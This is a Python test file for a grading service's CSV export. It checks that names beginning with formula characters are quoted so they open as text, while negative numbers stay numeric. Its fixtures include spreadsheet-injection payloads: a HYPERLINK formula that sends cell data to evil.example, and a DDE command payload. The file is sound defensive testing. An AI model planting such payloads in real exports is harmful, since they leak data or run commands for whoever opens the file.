"""The grade export opens in a spreadsheet as data: a text cell that a spreadsheet would run as a
formula is written with a leading quote, while numbers (negative ones too) stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from grader_api.services import leaderboard
from grader_api.services.spreadsheet import spreadsheet_safe
from tests.service.helpers import auth

FORMULA = '=HYPERLINK("https://evil.example/?"&B2,"grades")'


def _rows(text: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(text)))


def test_a_formula_user_name_is_neutralised_in_grades_csv(course):
    from grader_api.models import Role, User
    from grader_api.services.courses import DEFAULT_COURSE, enroll, get_course

    # Names are checked when users are created through the service; a row from an import or an
    # older version can still hold anything, and the export must not trust it.
    with course.app.state.db.transaction() as s:
        for name in (FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1"):
            user = User(name=name, role=Role.STUDENT)
            s.add(user)
            s.flush()
            enroll(s, get_course(s, DEFAULT_COURSE), user, Role.STUDENT)
    r = course.client.get("/api/v1/tasks/pets/grades.csv", headers=auth(course.instructor))
    assert r.status_code == 200, r.text
    students = [row["student"] for row in _rows(r.text)]
    assert "'" + FORMULA in students and FORMULA not in students
    assert {"'+1+cmd|' /C calc'!A0", "'-2+3", "'@SUM(1,2)", "'\t=1+1"} <= set(students)
    assert {"alice", "bob"} <= set(students)  # ordinary names untouched


def test_negative_numbers_stay_numbers(monkeypatch):
    row = leaderboard.GradeRow(student="-alice", best_public=-0.25, best_private=-1.5, points=-2.0,
                               late_days_used=0, submissions=3)
    monkeypatch.setattr(leaderboard, "grade_rows", lambda session, task: [row])
    (out,) = _rows(leaderboard.grades_csv(None, None))
    assert out == {"student": "'-alice", "best_public": "-0.250000", "best_private": "-1.500000",
                   "points": "-2.000000", "late_days_used": "0", "submissions": "3"}


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@x", "\t=1", "\r=1"])
def test_formula_starts_are_quoted(cell):
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["alice", "a=b", "", 3, -2, 0.5, None])
def test_other_cells_are_unchanged(cell):
    assert spreadsheet_safe(cell) == cell
